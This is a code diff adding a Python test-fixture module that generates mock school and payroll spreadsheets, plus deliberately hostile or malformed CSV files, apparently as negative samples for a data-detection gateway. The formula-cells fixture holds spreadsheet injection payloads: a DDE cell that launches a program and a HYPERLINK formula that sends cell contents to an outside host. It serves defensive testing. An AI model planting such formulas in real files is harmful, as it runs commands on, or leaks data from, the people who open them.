@@ -1,0 +1,136 @@
+"""Other people's spreadsheets: payroll, transport, budgets, published statistics, and odd shapes."""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterator, Sequence
+from random import Random
+
+from gateway.samples.drawing import Cell, Table
+from gateway.samples.negatives.negative import Negative
+from gateway.samples.people import upn
+from gateway.samples.presentation import PLAIN, Presentation, present
+
+
+def files(rng: Random) -> Iterator[Negative]:
+    """Each list as CSV, payroll as a workbook too, and the spreadsheets that were built to hurt."""
+    for what, table in _lists(rng):
+        yield Negative(what, "table", f"{what}.csv", present(table, "x.csv", PLAIN)[1])
+    workbook = present(_payroll(rng), "x.csv", Presentation(container="xlsx"))[1]
+    yield Negative("payroll workbook", "table", "payroll.xlsx", workbook)
+    yield Negative("ten thousand columns", "trap", "wide.csv", _wide())
+    yield Negative("formula cells", "trap", "formulas.csv", _formulas())
+    yield Negative("one cell of five million characters", "trap", "cell.csv", _large_cell())
+    yield Negative("quote that never closes", "broken", "pupils.csv", _unclosed())
+
+
+def _lists(rng: Random) -> Iterator[tuple[str, Table]]:
+    yield "payroll", _payroll(rng)
+    yield (
+        "school transport",
+        _rows(
+            rng, ["Route", "Operator", "Seats", "Child", "Stop", "Year"], ["R12", "Mock Buses", 49, "A Test"]
+        ),
+    )
+    yield "budget", _rows(rng, ["Cost Centre", "Description", "Budget", "Actual", "Variance"], ["E01", "Pay"])
+    yield (
+        "school directory",
+        _rows(
+            rng,
+            ["URN", "LA (code)", "EstablishmentNumber", "EstablishmentName", "Postcode", "HeadLastName"],
+            [990000, 999, 2000, "Gorse Road Primary School", "ZZ1 1ZZ", "Mock"],
+        ),
+    )
+    yield (
+        "absence statistics",
+        _rows(
+            rng,
+            ["time_period", "la_name", "sess_possible", "sess_authorised", "sess_unauthorised", "enrolments"],
+            [202526, "Mockshire", 120000, 5000, 900, 310],
+        ),
+    )
+    yield (
+        "performance tables",
+        _rows(
+            rng,
+            ["RECTYPE", "LEA", "ESTAB", "URN", "SCHNAME", "TOTPUPS", "ATT8SCR", "P8MEA", "EBACCAPS"],
+            [1, 999, 4001, 990001, "Mock Academy", 900, 46.3, 0.12, 4.1],
+        ),
+    )
+    yield (
+        "staff absence",
+        _rows(
+            rng,
+            ["Staff Code", "Surname", "Forename", "Date", "Reason", "Days"],
+            ["MTE", "Mock", "Tess", None],
+        ),
+    )
+    yield (
+        "library loans",
+        _rows(
+            rng,
+            ["Barcode", "Title", "Borrower", "Due", "Fine"],
+            ["300412", "A Mock Tale", "Test, A", "01/07/2026"],
+        ),
+    )
+    yield (
+        "dinner money",
+        _rows(rng, ["Account", "Surname", "Forename", "Class", "Balance"], [77, "Mock", "Ann", "3B"]),
+    )
+    yield (
+        "trip list",
+        _rows(
+            rng, ["Surname", "Forename", "DOB", "Consent", "Paid"], ["Mock", "Ann", "01/02/2016", "Y", "Y"]
+        ),
+    )
+    yield "numbers only", Table(header=["a", "b"], rows=[[n, rng.randrange(10**6)] for n in range(50)])
+    yield "upns only", Table(header=["UPN"], rows=[[upn("2000", 2019, n)] for n in range(40)])
+
+
+def _payroll(rng: Random) -> Table:
+    header = ["Employee", "Surname", "Forename", "Date of Birth", "Gender", "NI Number", "Grade", "Salary"]
+    rows: list[list[Cell]] = [
+        [9000 + n, "Mock", f"Test {n}", "01/02/1980", "F", f"ZZ{rng.randrange(10**6):06d}A", "M3", 31000 + n]
+        for n in range(40)
+    ]
+    return Table(header=header, rows=rows)
+
+
+def _rows(rng: Random, header: list[str], first: Sequence[Cell]) -> Table:
+    """Forty rows that begin with `first` and go on with numbers."""
+    rest = len(header) - len(first)
+    return Table(
+        header=header, rows=[[*first, *(rng.randrange(999) for _ in range(rest))] for _ in range(40)]
+    )
+
+
+def _written(rows: Sequence[Sequence[str]]) -> bytes:
+    out = io.StringIO(newline="")
+    csv.writer(out).writerows(rows)
+    return out.getvalue().encode()
+
+
+def _wide() -> bytes:
+    known = ["UPN", "Surname", "Forename", "DOB", "Ethnicity", "SEN Status", "NCY"]
+    header = known + [f"column {n}" for n in range(10_000 - len(known))]
+    row = [upn("2000", 2019, 1), "Mock", "Ann", "01/02/2015", "WBRI", "N", "5"] + ["x"] * (
+        10_000 - len(known)
+    )
+    return _written([header, *([row] * 30)])
+
+
+def _formulas() -> bytes:
+    cells = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org/?"&A1,"open")', "@SUM(1+1)", "+1+1", "-2"]
+    return _written([["=1+1", "=A1", "@x", "+y", "-z"], *([cells] * 40)])
+
+
+def _large_cell() -> bytes:
+    return _written([["UPN", "Surname", "Forename"], [upn("2000", 2019, 1), "x" * 5_000_000, "Ann"]])
+
+
+def _unclosed() -> bytes:
+    """A list of pupils whose first name opens a quote: everything after it is one cell."""
+    lines = ["UPN,Surname,Forename,DOB,Ethnicity,NCY", f'{upn("2000", 2019, 0)},"Mock,Ann,01/02/2015,WBRI,5']
+    lines += [f"{upn('2000', 2019, n)},Mock,Ann,01/02/2015,WBRI,5" for n in range(1, 30)]
+    return "\r\n".join(lines).encode()
